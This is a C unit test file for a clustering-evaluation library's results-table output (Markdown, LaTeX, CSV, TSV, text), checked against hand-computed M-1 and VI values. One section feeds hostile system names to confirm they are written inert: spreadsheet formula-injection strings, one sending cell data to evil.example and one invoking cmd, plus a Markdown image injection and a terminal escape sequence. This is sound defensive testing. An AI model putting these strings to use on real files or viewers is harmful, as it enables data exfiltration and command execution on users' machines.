/*
 * The results tables of ce_eval_table, whole, on an instance worked by hand: column titles
 * from the measure table, the best value of each column in bold, baselines in italics after a
 * rule, the row order a caller asks for, and the bootstrap's note.
 */
#include <stdlib.h>

#include "check.h"
#include "clustereval.h"

/*
 * Gold: two sentences, a b (X) and c d (Y).
 * s_1 = a b | c d, the gold partition: M-1 = 1, VI = 0.
 * s|2 = a | b c d: cluster {a} maps to X (1 token), {b, c, d} to Y (2): M-1 = 3/4.
 *   H(C|K) = 3/4 · H(1/3, 2/3) = 3/4 · (ln 3 − 2/3 ln 2) = 0.477386;
 *   H(K|C) = 1/2 · ln 2 (X split in two) + 1/2 · 0 = 0.346574; VI = 0.823960.
 * baseline:one puts every token in one cluster: M-1 = 1/2, VI = H(C) = ln 2 = 0.693147.
 * H(C) = ln 2 on every row, and has no direction: never in bold.
 * Each item (word) occurs once, so the type level's M-1 is the token level's.
 * "bad" has the token z where gold has b: it fails, and its row says why.
 */
static const char gold[] = "a\tX\nb\tX\n\nc\tY\nd\tY\n";
static const char *const systems[][2] = {
    {"s_1", "a\t1\nb\t1\n\nc\t2\nd\t2\n"},
    {"s|2", "a\t1\nb\t2\n\nc\t2\nd\t2\n"},
    {"bad", "a\t1\nz\t1\n\nc\t2\nd\t2\n"},
};

static ce_eval *run(unsigned resamples, int with_bad) {
  ce_eval *ev = ce_eval_create();
  CHECK(ce_eval_add_baseline(ev, CE_BASELINE_ONE) == CE_OK);
  if (resamples) CHECK(ce_eval_set(ev, CE_OPT_BOOTSTRAP, resamples) == CE_OK);
  size_t count = with_bad ? 3 : 2;
  CHECK(ce_eval_add_input(ev, "gold", NULL, NULL) == CE_OK);
  for (size_t s = 0; s < count; s++)
    CHECK(ce_eval_add_input(ev, systems[s][0], NULL, NULL) == CE_OK);
  ce_eval_feed(ev, 0, gold, sizeof gold - 1, NULL);
  for (size_t s = 0; s < count; s++)
    ce_eval_feed(ev, s + 1, systems[s][1], strlen(systems[s][1]), NULL);
  for (size_t i = 0; i <= count; i++) ce_eval_close(ev, i, NULL);
  CHECK(ce_eval_finish(ev, NULL) == CE_OK);
  if (resamples) CHECK(ce_eval_resample(ev, resamples, NULL, NULL, NULL) == CE_OK);
  return ev;
}

static const ce_column columns[] = {
    {CE_LEVEL_TOKEN, CE_M1},
    {CE_LEVEL_TOKEN, CE_VI},
    {CE_LEVEL_TOKEN, CE_H_C},
    {CE_LEVEL_TYPE, CE_M1},
};

static char *table(const ce_eval *ev, ce_table_format format, const ce_column *cols, size_t count,
                   const size_t *rows, size_t row_count) {
  char *text = NULL;
  size_t len = 0;
  CHECK(ce_eval_table(ev, format, cols, count, rows, row_count, &text, &len) == CE_OK);
  CHECK(text && strlen(text) == len);
  return text;
}

#define CHECK_TEXT(actual, expected)                                        \
  do {                                                                      \
    char *check_t_ = (actual);                                              \
    check_count++;                                                          \
    if (!check_t_ || strcmp(check_t_, (expected)) != 0) {                   \
      check_failures++;                                                     \
      fprintf(stderr, "%s:%d: got\n%s\nexpected\n%s\n", __FILE__, __LINE__, \
              check_t_ ? check_t_ : "(null)", (expected));                  \
    }                                                                       \
    ce_free(check_t_);                                                      \
  } while (0)

static void test_markdown(void) {
  ce_eval *ev = run(0, 0);
  CHECK_TEXT(table(ev, CE_TABLE_MARKDOWN, columns, 4, NULL, 0),
             "| System | Token M-1 | Token VI (nats) | Token H(C) (nats) | Type M-1 |\n"
             "| --- | ---: | ---: | ---: | ---: |\n"
             "| `s_1` | **1.0000** | **0.0000** | 0.6931 | **1.0000** |\n"
             "| `s\\|2` | 0.7500 | 0.8240 | 0.6931 | 0.7500 |\n"
             "| *baseline:one* | 0.5000 | 0.6931 | 0.6931 | 0.5000 |\n");
  /* The rows asked for, in that order; one system alone has no best. */
  const size_t order[] = {2, 1};
  CHECK_TEXT(table(ev, CE_TABLE_MARKDOWN, columns, 1, order, 2),
             "| System | Token M-1 |\n"
             "| --- | ---: |\n"
             "| *baseline:one* | 0.5000 |\n"
             "| `s\\|2` | 0.7500 |\n");
  ce_eval_free(ev);
}

static void test_latex(void) {
  ce_eval *ev = run(0, 0);
  CHECK_TEXT(table(ev, CE_TABLE_LATEX, columns, 4, NULL, 0),
             "\\begin{tabular}{lrrrr}\n"
             "\\toprule\n"
             " & \\multicolumn{3}{c}{Token level} & \\multicolumn{1}{c}{Type level} \\\\\n"
             "\\cmidrule(lr){2-4} \\cmidrule(lr){5-5}\n"
             "System & M-1 & VI & $H(C)$ & M-1 \\\\\n"
             "\\midrule\n"
             "s\\_1 & \\textbf{1.0000} & \\textbf{0.0000} & 0.6931 & \\textbf{1.0000} \\\\\n"
             "s|2 & 0.7500 & 0.8240 & 0.6931 & 0.7500 \\\\\n"
             "\\midrule\n"
             "\\textit{baseline:one} & 0.5000 & 0.6931 & 0.6931 & 0.5000 \\\\\n"
             "\\bottomrule\n"
             "\\end{tabular}\n");
  ce_eval_free(ev);
}

/* Text, TSV and CSV keep their ids and every digit; the row order applies to them too. */
static void test_plain_formats(void) {
  ce_eval *ev = run(0, 0);
  const size_t order[] = {1, 0};
  CHECK_TEXT(table(ev, CE_TABLE_CSV, columns, 1, order, 2), "system,token.m1\ns|2,0.75\ns_1,1\n");
  CHECK_TEXT(table(ev, CE_TABLE_TSV, columns, 1, NULL, 0),
             "system\ttoken.m1\ns_1\t1\ns|2\t0.75\nbaseline:one\t0.5\n");
  CHECK_TEXT(table(ev, CE_TABLE_TEXT, columns, 1, order + 1, 1),
             "system    token.m1\n"
             "s_1         1.0000\n");
  ce_eval_free(ev);
}

static void test_failed_row(void) {
  ce_eval *ev = run(0, 1);
  char *md = table(ev, CE_TABLE_MARKDOWN, columns, 1, NULL, 0);
  CHECK_STR_CONTAINS(md, "| `s\\|2` | 0.7500 |\n| `bad` | error: ");
  /* The failed row has no value: s_1 is still the best of two. */
  CHECK_STR_CONTAINS(md, "| `s_1` | **1.0000** |\n");
  ce_free(md);
  ce_eval_free(ev);
}

/* Each resample draws the two sentences; s_1 is gold's partition on every draw. The note
 * names the interval method, BCa by default. */
static void test_bootstrap_note(void) {
  ce_eval *ev = run(10, 0);
  const char *note =
      "the 95% BCa interval over 10 bootstrap resamples of the 2 sentences "
      "(the type level: of its 4 items), seed 1.\n";
  char *md = table(ev, CE_TABLE_MARKDOWN, columns, 1, NULL, 0);
  CHECK_STR_CONTAINS(md, "| `s_1` | **1.0000** [1.0000, 1.0000] |\n");
  CHECK_STR_CONTAINS(md, " |\n\nIn brackets: ");
  CHECK_STR_CONTAINS(md, note);
  CHECK(strlen(md) > strlen(note) && strcmp(md + strlen(md) - strlen(note), note) == 0);
  ce_free(md);
  char *tex = table(ev, CE_TABLE_LATEX, columns, 1, NULL, 0);
  const char *tex_note = "% In brackets: the 95% BCa interval over 10 ";
  CHECK(strncmp(tex, tex_note, strlen(tex_note)) == 0);
  CHECK_STR_CONTAINS(tex, "s\\_1 & \\textbf{1.0000} {\\scriptsize[1.0000, 1.0000]} \\\\\n");
  ce_free(tex);
  ce_eval_free(ev);
}

/*
 * Names that would act where a table is opened (OWASP "CSV Injection"; a Markdown code span
 * closed early to let an image in; a terminal's escape sequence) are written inert, each
 * format by its own rule; a name that is a number as written stays one.
 */
static const char *const hostile[] = {
    "=HYPERLINK(\"http://evil.example/?\"&B2,\"x\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd",
    "x` ![p](http://evil.example/md.png) `y",
    "`a\tb`",
    "\x1b[31mred",
    "-0.5",
};
enum { HOSTILE = sizeof hostile / sizeof *hostile };

static ce_eval *run_hostile(void) {
  ce_eval *ev = ce_eval_create();
  CHECK(ce_eval_add_input(ev, "gold", NULL, NULL) == CE_OK);
  for (size_t s = 0; s < HOSTILE; s++)
    CHECK(ce_eval_add_input(ev, hostile[s], NULL, NULL) == CE_OK);
  ce_eval_feed(ev, 0, gold, sizeof gold - 1, NULL);
  for (size_t s = 0; s < HOSTILE; s++)
    ce_eval_feed(ev, s + 1, systems[1][1], strlen(systems[1][1]), NULL);
  for (size_t i = 0; i <= HOSTILE; i++) ce_eval_close(ev, i, NULL);
  CHECK(ce_eval_finish(ev, NULL) == CE_OK);
  return ev;
}

static void test_hostile_names(void) {
  ce_eval *ev = run_hostile();
  CHECK_TEXT(table(ev, CE_TABLE_CSV, columns, 1, NULL, 0),
             "system,token.m1\n"
             "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&B2,\"\"x\"\")\",0.75\n"
             "\"'@SUM(1+1)*cmd|' /C calc'!A0\",0.75\n"
             "\"'+1+cmd\",0.75\n"
             "x` ![p](http://evil.example/md.png) `y,0.75\n"
             "\"`a\tb`\",0.75\n"
             "?[31mred,0.75\n"
             "-0.5,0.75\n");
  CHECK_TEXT(table(ev, CE_TABLE_TSV, columns, 1, NULL, 0),
             "system\ttoken.m1\n"
             "'=HYPERLINK(\"http://evil.example/?\"&B2,\"x\")\t0.75\n"
             "'@SUM(1+1)*cmd|' /C calc'!A0\t0.75\n"
             "'+1+cmd\t0.75\n"
             "x` ![p](http://evil.example/md.png) `y\t0.75\n"
             "`a\\tb`\t0.75\n"
             "?[31mred\t0.75\n"
             "-0.5\t0.75\n");
  /* Every name in a code span one backtick longer than its longest run, padded where it
   * begins or ends with a backtick; '|' as GFM tables escape it. */
  CHECK_TEXT(table(ev, CE_TABLE_MARKDOWN, columns, 1, NULL, 0),
             "| System | Token M-1 |\n"
             "| --- | ---: |\n"
             "| `=HYPERLINK(\"http://evil.example/?\"&B2,\"x\")` | **0.7500** |\n"
             "| `@SUM(1+1)*cmd\\|' /C calc'!A0` | **0.7500** |\n"
             "| `+1+cmd` | **0.7500** |\n"
             "| ``x` ![p](http://evil.example/md.png) `y`` | **0.7500** |\n"
             "| `` `a?b` `` | **0.7500** |\n"
             "| `?[31mred` | **0.7500** |\n"
             "| `-0.5` | **0.7500** |\n");
  char *text = table(ev, CE_TABLE_TEXT, columns, 1, NULL, 0);
  CHECK_STR_CONTAINS(text, "\n`a?b`     ");
  CHECK_STR_CONTAINS(text, "\n?[31mred  ");
  CHECK(!strchr(text, '\x1b') && !strchr(text, '\t'));
  ce_free(text);
  ce_eval_free(ev);
}

static void test_usage(void) {
  ce_eval *ev = run(0, 0);
  char *text = NULL;
  const size_t outside[] = {0, 3};
  CHECK(ce_eval_table(ev, CE_TABLE_CSV, columns, 1, outside, 2, &text, NULL) == CE_ERR_USAGE);
  const ce_column unknown[] = {{CE_LEVEL_TOKEN, CE_MEASURE_COUNT}};
  CHECK(ce_eval_table(ev, CE_TABLE_CSV, unknown, 1, NULL, 0, &text, NULL) == CE_ERR_USAGE);
  CHECK(ce_eval_table(ev, (ce_table_format)9, columns, 1, NULL, 0, &text, NULL) == CE_ERR_USAGE);
  CHECK(text == NULL);
  ce_eval_free(ev);
}

/* The labels the tables show come from the one measure table. */
static void test_labels(void) {
  CHECK(strcmp(ce_measure_label(CE_V_MEASURE), "V") == 0);
  CHECK(strcmp(ce_measure_label(CE_MICRO_C_O1), "MicroC 1-1") == 0);
  CHECK(ce_measure_label(CE_MEASURE_COUNT) == NULL);
  for (int m = 0; m < CE_MEASURE_COUNT; m++) CHECK(ce_measure_label((ce_measure)m)[0] != '\0');
  CHECK(ce_measure_higher_is_better(CE_H_C) == -1);
  CHECK(ce_measure_higher_is_better(CE_H_C_GIVEN_K) == 0);
  CHECK(ce_measure_higher_is_better(CE_MI) == 1);
}

int main(void) {
  test_markdown();
  test_latex();
  test_plain_formats();
  test_failed_row();
  test_bootstrap_note();
  test_hostile_names();
  test_usage();
  test_labels();
  return check_report("tables");
}
